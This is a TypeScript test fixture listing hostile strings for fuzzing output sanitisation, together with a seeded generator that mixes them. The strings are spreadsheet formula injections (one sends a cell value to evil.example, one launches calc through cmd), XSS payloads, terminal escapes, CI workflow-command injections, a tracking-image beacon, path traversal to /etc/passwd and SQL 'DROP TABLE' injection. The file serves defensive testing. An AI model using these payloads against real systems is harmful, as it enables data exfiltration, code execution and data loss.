/** Texts that break a file format, a page, a spreadsheet or a terminal if they are not made harmless. */
import { Random } from "../../grading/random";

export const hostile: readonly string[] = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  "+1+1",
  "-2+3",
  "@SUM(A1:A9)",
  "\t=1",
  "\r=1",
  "\n=cmd|' /C calc'!A0",
  " =1+1",
  "\uff1d1+1",
  'comma, "quote", \n line break',
  '"";""',
  "a\r\nb,c\r\nd",
  "\u0000null",
  "\u001b[2J\u001b]0;title\u0007",
  "\u009b31m",
  "<script>alert(1)</script>",
  '"><img src=x onerror=alert(1)>',
  "<!--",
  "-->",
  "</style></title></pre></p>",
  "<svg/onload=alert(1)>",
  "javascript:alert(1)",
  "&lt;b&gt; &amp;amp; &#x3c;",
  "]]>",
  "<![CDATA[x]]>",
  "<?xml?>",
  "::set-output name=x::y",
  "::error file=a.ts::boom",
  "##[group]x",
  "::stop-commands::t",
  "\n::add-mask::x",
  "![beacon](https://evil.example/x.png)",
  "[a](javascript:alert(1))",
  "```\n# out of the fence\n```",
  "````",
  "~~~",
  "https://evil.example",
  "@everyone #1",
  "\u202egnirts desrever\u202c",
  "\u2066isolate\u2069",
  "\u200bzero\u200d\ufeff",
  "\ud800 lone \udc00 halves",
  "\ufffe\uffff",
  "\u2028line\u2029paragraph",
  "e\u0301 NFD",
  "Ａ fullwidth",
  "{{7*7}} $\u007b7*7} #{7*7} <%= 7 %>",
  "%s%n%x",
  "../../etc/passwd",
  "'; DROP TABLE grades; --",
  "a".repeat(3000),
];

const pieces = [
  ..."=+-@\t\r\n,;\"'<>&`*_[]()!#|\\/:{}$%~ \u0000\u001b\u0085\u202e\ufeff\ud83d\udca9\ud800aé字",
];

export const fuzz = (count: number, seed = "hostile"): string[] => {
  const random = new Random(seed);
  return random.list(count, () =>
    random.list(random.integer(1, 40), () => random.choose([...pieces, ...hostile.slice(0, 40)])).join(""),
  );
};
